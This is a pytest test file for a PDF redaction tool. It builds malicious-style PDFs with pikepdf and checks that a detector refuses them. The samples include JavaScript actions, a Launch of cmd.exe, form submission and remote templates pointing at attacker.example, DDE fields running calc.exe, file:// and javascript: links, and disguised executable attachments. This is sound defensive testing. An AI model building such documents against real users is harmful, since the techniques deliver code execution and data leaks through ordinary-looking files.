"""Issue 30: active content is refused at the door, whatever carries it. Each class is built
with pikepdf, the way an attacker would write it."""

from __future__ import annotations

import io

import pikepdf
import pytest

from redactor.errors import ActiveContentError
from redactor.pdf.active_content import find_active_content, refuse_active_content, windows_name
from tests.conftest import DATA, SHARED_DATA
from tests.pdfs import pdf_from_paragraphs

N = pikepdf.Name
CONTRACT = pdf_from_paragraphs(["Kupní smlouva č. 2026/15", "Kupující: Obec Horní Lhota, IČO: 00000001"])


def _edit(change) -> bytes:
    """The contract with ``change(pdf)`` applied, saved as a new file."""
    pdf = pikepdf.open(io.BytesIO(CONTRACT))
    change(pdf)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _javascript_action(pdf) -> pikepdf.Dictionary:
    return pdf.make_indirect(pikepdf.Dictionary(S=N.JavaScript, JS=pikepdf.String("app.launchURL('x')")))


def _annotation(pdf, **fields) -> None:
    page = pdf.pages[0]
    fields = {"Subtype": N.Link, **fields}
    annotation = pdf.make_indirect(
        pikepdf.Dictionary(Type=N.Annot, Rect=[72, 700, 200, 720], Border=[0, 0, 0], **fields)
    )
    page.obj.Annots = pdf.make_indirect(pikepdf.Array([annotation]))


def _xfa(pdf) -> None:
    xfa = pdf.make_stream(b'<xdp:xdp><script contentType="application/x-javascript">app.alert(1)</script></xdp:xdp>')
    pdf.Root.AcroForm = pdf.make_indirect(pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=xfa))


def _scripted_pdf() -> bytes:
    def script(pdf):
        pdf.Root.OpenAction = _javascript_action(pdf)

    return _edit(script)


def _embedded_pdf_with_a_script(pdf) -> None:
    pdf.attachments["priloha.pdf"] = pikepdf.AttachedFileSpec(pdf, _scripted_pdf(), mime_type="application/pdf")


def _goto_embedded_with_a_script(pdf) -> None:
    _embedded_pdf_with_a_script(pdf)
    target = pikepdf.Dictionary(R=N.C, N=pikepdf.String("priloha.pdf"))
    pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(S=N.GoToE, D=[0, N.Fit], T=target))


def _goto_remote_unc(pdf) -> None:
    spec = pikepdf.Dictionary(Type=N.Filespec, F=pikepdf.String("\\\\attacker.example\\share\\a.pdf"))
    pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(S=N.GoToR, F=spec, D=[0, N.Fit]))


def _uri_open_action(pdf) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(
        pikepdf.Dictionary(S=N.URI, URI=pikepdf.String("https://tracker.example/open?id=1"))
    )


def _uri_on_page_open(pdf) -> None:  # a page's additional action, with the URI behind a /Next
    first = pikepdf.Dictionary(S=N.GoTo, D=[pdf.pages[0].obj, N.Fit])
    first.Next = pikepdf.Dictionary(S=N.URI, URI=pikepdf.String("https://tracker.example/page"))
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=first)


def _script_in_an_annotation(pdf) -> None:
    _annotation(pdf, A=_javascript_action(pdf))


def _launch(pdf) -> None:
    _annotation(pdf, A=pikepdf.Dictionary(S=N.Launch, F=pikepdf.String("cmd.exe")))


def _rich_media(pdf) -> None:
    page = pdf.pages[0]
    page.obj.Annots = pikepdf.Array(
        [pdf.make_indirect(pikepdf.Dictionary(Type=N.Annot, Subtype=N.RichMedia, Rect=[0, 0, 10, 10]))]
    )


def _submit_form(pdf) -> None:
    field = pdf.make_indirect(
        pikepdf.Dictionary(
            FT=N.Btn,
            T=pikepdf.String("odeslat"),
            A=pikepdf.Dictionary(S=N.SubmitForm, F=pikepdf.String("https://attacker.example/")),
        )
    )
    pdf.Root.AcroForm = pdf.make_indirect(pikepdf.Dictionary(Fields=pikepdf.Array([field])))


def _program_attachment(pdf) -> None:
    pdf.attachments["faktura.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", mime_type="application/octet-stream")


def _file_annotation(pdf, data: bytes, names: dict[str, str], typed: bool = True) -> None:
    """A file attached through a FileAttachment annotation on page 1 (not the name tree); the
    stream without ``/Type`` when not ``typed``, as some writers leave it."""
    stream = pdf.make_stream(data)
    if typed:
        stream.Type = N.EmbeddedFile
    spec = pikepdf.Dictionary(Type=N.Filespec, EF=pikepdf.Dictionary(F=stream))
    for key, value in names.items():
        spec["/" + key] = pikepdf.String(value)
    _annotation(pdf, Subtype=N.FileAttachment, FS=pdf.make_indirect(spec))


def _script_pdf_through_an_annotation(pdf) -> None:
    _file_annotation(pdf, _scripted_pdf(), {"F": "priloha.pdf", "UF": "priloha.pdf"}, typed=False)


def _javascript_after_110_actions(pdf) -> None:
    last = pikepdf.Dictionary(S=N.JavaScript, JS=pikepdf.String("app.alert(1)"))
    for _ in range(110):  # direct dictionaries nested 110 deep: no recursion limit may stop the walk
        last = pikepdf.Dictionary(S=N.GoTo, D=[0, N.Fit], Next=last)
    _annotation(pdf, A=last)


def _three_d(pdf) -> None:
    page = pdf.pages[0]
    three_d = pdf.make_stream(b"U3D\x00")
    three_d.Type, three_d.Subtype = pikepdf.Name("/3D"), N.U3D
    annotation = pikepdf.Dictionary(Type=N.Annot, Rect=[0, 0, 100, 100])
    annotation.Subtype = pikepdf.Name("/3D")
    annotation["/3DD"] = three_d
    page.obj.Annots = pikepdf.Array([pdf.make_indirect(annotation)])


def _program_through_an_annotation(pdf) -> None:
    _file_annotation(pdf, b"MZ\x90\x00\x03", {"F": "faktura.exe", "UF": "faktura.exe"})


def _text_name_in_the_tree_program_name_to_save(pdf) -> None:
    spec = pikepdf.AttachedFileSpec(pdf, b"Zaplaceno.", filename="payload.exe", mime_type="text/plain")
    pdf.attachments["priloha.txt"] = spec  # the name tree's key says .txt, the file name a reader saves says .exe


def _remote_media_on_page_open(pdf) -> None:
    clip = pikepdf.Dictionary(
        S=N.MCD, C=pikepdf.Dictionary(Type=N.Filespec, FS=N.URL, F=pikepdf.String("https://tracker.example/a.mp4"))
    )
    rendition = pikepdf.Dictionary(S=N.MR, C=clip)
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=N.Rendition, R=rendition, OP=0))


def _pdf_header_after_1024_bytes(pdf) -> None:
    pdf.attachments["priloha.pdf"] = pikepdf.AttachedFileSpec(pdf, b" " * 1500 + CONTRACT, mime_type="application/pdf")


def _named(name: str):
    def attach(pdf) -> None:
        spec = pikepdf.AttachedFileSpec(pdf, b"Dobry den.", filename="priloha.txt")
        spec.obj.UF = pikepdf.String(name)
        spec.obj.F = pikepdf.String(name)
        pdf.attachments["priloha.txt"] = spec

    return attach


def _broken_embedded_files_tree(pdf) -> None:
    tree = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a.txt"), 5, pikepdf.String("b")]))
    pdf.Root.Names = pikepdf.Dictionary(EmbeddedFiles=tree)


ACTIVE = {
    "XFA form with a script": (_xfa, ["XFA"]),
    "GoToE to an embedded PDF whose open action is JavaScript": (_goto_embedded_with_a_script, ["GoToE", "JavaScript"]),
    "GoToR to a network share on opening": (_goto_remote_unc, ["GoToR", "external file"]),
    "URI open action (a tracking address)": (_uri_open_action, ["URI (automatic)"]),
    "URI behind /Next of a page-open action": (_uri_on_page_open, ["URI (automatic)"]),
    "JavaScript in an annotation": (_script_in_an_annotation, ["JavaScript"]),
    "JavaScript in an embedded PDF": (_embedded_pdf_with_a_script, ["JavaScript"]),
    "Launch action": (_launch, ["Launch"]),
    "rich media": (_rich_media, ["RichMedia"]),
    "submit form": (_submit_form, ["SubmitForm"]),
    "an embedded program": (_program_attachment, ["embedded program"]),
    "JavaScript in a PDF attached by an annotation, its stream without /Type": (
        _script_pdf_through_an_annotation,
        ["JavaScript"],
    ),
    "JavaScript at the end of 110 nested actions": (_javascript_after_110_actions, ["JavaScript"]),
    "a 3D annotation": (_three_d, ["3D annotation"]),
    "a program attached by an annotation": (_program_through_an_annotation, ["embedded program"]),
    "priloha.txt in the name tree, payload.exe to save": (
        _text_name_in_the_tree_program_name_to_save,
        ["embedded program"],
    ),
    "remote media on page open": (_remote_media_on_page_open, ["Rendition", "external file"]),
    "an embedded PDF whose header starts after byte 1024": (_pdf_header_after_1024_bytes, ["embedded PDF"]),
    "payload.exe. (a trailing dot Windows drops)": (_named("payload.exe."), ["embedded program"]),
    "a Word document with macros (.docm)": (_named("smlouva.docm"), ["embedded program"]),
    "an Internet shortcut (.url)": (_named("odkaz.url"), ["embedded program"]),
    "skript.vbs::$DATA (an alternate data stream)": (_named("skript.vbs::$DATA"), ["embedded program"]),
    "an embedded-files tree with a number for a file": (_broken_embedded_files_tree, ["damaged attachment"]),
}


@pytest.mark.parametrize("case", ACTIVE)
def test_each_class_of_active_content_is_found_and_refused(case):
    change, kinds = ACTIVE[case]
    data = _edit(change)
    assert find_active_content(data) == sorted(kinds)
    with pytest.raises(ActiveContentError) as refused:
        refuse_active_content(data)
    assert refused.value.kinds == sorted(kinds) and "printing it to PDF" in str(refused.value)


def _link(pdf) -> None:
    _annotation(pdf, A=pikepdf.Dictionary(S=N.URI, URI=pikepdf.String("https://www.hornilhota.cz/")))


def _plain_attachment(pdf) -> None:
    pdf.attachments["priloha.pdf"] = pikepdf.AttachedFileSpec(pdf, CONTRACT, mime_type="application/pdf")


def _outline_to_a_page(pdf) -> None:
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Článek 1", 0))


@pytest.mark.parametrize(
    "change", [_link, _plain_attachment, _outline_to_a_page], ids=["link on a click", "PDF attachment", "outline"]
)
def test_what_an_ordinary_contract_carries_is_not_active(change):
    """A web link followed on a click (Word exports them for web and e-mail addresses), an
    attached PDF without scripts, bookmarks: accepted (the published PDF drops them anyway)."""
    assert find_active_content(_edit(change)) == []


def test_every_real_contract_of_the_bundled_data_is_accepted():
    """Contracts as Word, LibreOffice, other writers and scanners export them (the shared data:
    real contracts, synthetic ones, scans; a lone clone's bundled copies: synthetic ones and a
    published scan), with their links, outlines and attachments."""
    files = sorted(DATA.rglob("*.pdf"))
    assert len(files) >= (20 if DATA == SHARED_DATA else 10)  # the set is there, not an empty folder
    refused = {f.name: kinds for f in files if (kinds := find_active_content(f.read_bytes()))}
    assert refused == {}


@pytest.mark.parametrize(
    ("name", "saved"),
    [("payload.exe.", "payload.exe"), ("skript.vbs::$DATA", "skript.vbs"), ("C:\\tmp\\A.TXT ", "a.txt")],
)
def test_attachment_names_are_judged_as_windows_saves_them(name, saved):
    assert windows_name(name) == saved


def _attached(name: str, data: bytes):
    def attach(pdf) -> None:
        pdf.attachments[name] = pikepdf.AttachedFileSpec(pdf, data, filename=name)

    return attach


def _without_header(pdf) -> None:
    """A PDF with an open-action script whose ``%PDF-`` line is cut off: MuPDF still opens it."""
    inner = pikepdf.open(io.BytesIO(CONTRACT))
    inner.Root.OpenAction = _javascript_action(inner)
    out = io.BytesIO()
    inner.save(out)
    headless = out.getvalue().split(b"\n", 1)[1]
    assert not headless.startswith(b"%PDF-") and b"%PDF-" not in headless
    import pymupdf

    assert pymupdf.open(stream=headless, filetype="pdf").page_count == 1  # a reader opens it
    pdf.attachments["priloha.pdf"] = pikepdf.AttachedFileSpec(pdf, headless, filename="priloha.pdf")


def _link_to(address: str):
    return lambda pdf: _annotation(pdf, A=pikepdf.Dictionary(S=N.URI, URI=pikepdf.String(address)))


def _string_file_spec(pdf) -> None:
    _annotation(pdf, Subtype=N.FileAttachment, FS=pikepdf.String("\\\\server\\share\\smlouva.exe"))


def _related_program(pdf) -> None:
    spec = pikepdf.AttachedFileSpec(pdf, b"Dobry den.", filename="priloha.txt")
    program = pdf.make_stream(b"MZ\x90\x00" + b"\x00" * 60)
    spec.obj.RF = pikepdf.Dictionary(F=pikepdf.Array([pikepdf.String("setup.txt"), program]))
    pdf.attachments["priloha.txt"] = spec


def _zip(parts: dict[str, bytes]) -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return out.getvalue()


_DOCX = {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}
_REMOTE_TEMPLATE = (
    b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
)
_HYPERLINK = (
    b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/hyperlink" Target="https://www.hornilhota.cz/" TargetMode="External"/></Relationships>'
)

_DDE_FIELD = (
    b'<w:document><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO '
    b'c:\\windows\\system32\\cmd.exe "/k calc.exe"</w:instrText></w:r></w:document>'
)
_DDE_CELL = b"<worksheet><sheetData><row><c r=\"A1\"><f>cmd|' /C calc'!A0</f></c></row></sheetData></worksheet>"
#: A contract's words that look like the DDE markers and are none.
_DDE_LOOKALIKES = (
    b"<w:document><w:t>DDE s.r.o., ICO 12345678; zkratka DDE AUTO servis</w:t><w:t>|' a =SUM(A1)</w:t></w:document>"
)

ACTIVE_BY_STRUCTURE = {
    "a PDF attachment without its header, with an open-action script": (_without_header, ["embedded PDF"]),
    "a javascript: link": (_link_to("javascript:app.alert(1)"), ["URI javascript:"]),
    "a JavaScript link hidden by case and a tab": (_link_to("\tJaVaScRiPt:app.alert(1)"), ["URI javascript:"]),
    "a file:// link": (_link_to("file:///C:/Windows/system32/calc.exe"), ["URI file:"]),
    "a UNC path as a link": (_link_to("\\\\server\\share\\a.exe"), ["URI without http, https or mailto"]),
    "a file attachment naming an outside file by a string": (_string_file_spec, ["external file"]),
    "a program among a file's related files (/RF)": (_related_program, ["embedded program"]),
    "a script after the first kilobyte of a text attachment": (
        _attached("poznamka.txt", b"Dobry den.\n" * 200 + b"<script>alert(1)</script>"),
        ["embedded program"],
    ),
    "a Word document with a remote template": (
        _attached("smlouva.docx", _zip({**_DOCX, "word/_rels/settings.xml.rels": _REMOTE_TEMPLATE})),
        ["embedded document with external links"],
    ),
    "a Word document with an OLE package": (
        _attached("smlouva.docx", _zip({**_DOCX, "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})),
        ["embedded object in a document"],
    ),
    "a workbook with an Excel 4 macro sheet": (
        _attached("rozpocet.xlsx", _zip({"[Content_Types].xml": b"<Types/>", "xl/macrosheets/sheet1.xml": b"<x/>"})),
        ["embedded document with macros"],
    ),
    "a program inside a signature container (ASiC-E)": (
        _attached("podpis.asice", _zip({"mimetype": b"application/vnd.etsi.asic-e+zip", "smlouva.pdf.exe": b"x"})),
        ["embedded program"],
    ),
    "a program's bytes inside a signature container": (
        _attached("podpis.asice", _zip({"mimetype": b"application/vnd.etsi.asic-e+zip", "data.txt": b"MZ\x90\x00"})),
        ["embedded program"],
    ),
    "XML carrying a namespaced XHTML script": (
        _attached("data.xml", b'<d xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></d>'),
        ["embedded program"],
    ),
    "XML carrying an event handler": (
        _attached("data.xml", b'<svg:image xmlns:svg="x" href="x" onerror="alert(1)"/>'),
        ["embedded program"],
    ),
    "XML with a remote style sheet": (
        _attached("data.xml", b'<?xml-stylesheet type="text/xsl" href="http://attacker.example/x.xsl"?><d/>'),
        ["embedded program"],
    ),
    "a Word document with a DDE field": (
        _attached("smlouva.docx", _zip({**_DOCX, "word/document.xml": _DDE_FIELD})),
        ["embedded document with DDE"],
    ),
    "a workbook with a DDE formula": (
        _attached("rozpocet.xlsx", _zip({"[Content_Types].xml": b"<Types/>", "xl/worksheets/sheet1.xml": _DDE_CELL})),
        ["embedded document with DDE"],
    ),
    "a Word document of 5,000 parts": (
        _attached("smlouva.docx", _zip({**_DOCX, **{f"word/p{n}.xml": b"" for n in range(5_000)}})),
        ["embedded archive of too many parts"],
    ),
}


@pytest.mark.parametrize("case", ACTIVE_BY_STRUCTURE)
def test_attachments_and_links_are_judged_by_their_structure(case):
    change, kinds = ACTIVE_BY_STRUCTURE[case]
    data = _edit(change)
    assert find_active_content(data) == sorted(kinds)
    with pytest.raises(ActiveContentError):
        refuse_active_content(data)


@pytest.mark.parametrize(
    "change",
    [
        _link_to("mailto:podatelna@hornilhota.cz"),
        _link_to("HTTP://www.hornilhota.cz/"),
        _attached("smlouva.docx", _zip({**_DOCX, "word/_rels/document.xml.rels": _HYPERLINK})),
        _attached("vykaz.txt", b"Polozka;Cena\n" * 500),
        _attached("smlouva.docx", _zip({**_DOCX, "word/document.xml": _DDE_LOOKALIKES})),
        _attached("data.xml", b"<smlouva><strana>Obec Horni Lhota</strana><poznamka>one=1</poznamka></smlouva>"),
    ],
    ids=["mailto link", "HTTP in capitals", "Word document with a web link", "long text", "DDE as a name", "plain XML"],
)
def test_links_to_the_web_and_documents_with_web_links_stay_accepted(change):
    assert find_active_content(_edit(change)) == []


def test_an_archive_or_a_program_appended_after_the_end_of_the_pdf_is_refused():
    assert find_active_content(CONTRACT + b"\r\n") == []  # white space after %%EOF is nothing
    with_zip = CONTRACT + _zip({"setup.exe": b"MZ\x90\x00"})
    assert find_active_content(with_zip) == ["data appended after the end of the PDF"]
    assert find_active_content(CONTRACT + b"\n<script>alert(1)</script>") == ["data appended after the end of the PDF"]
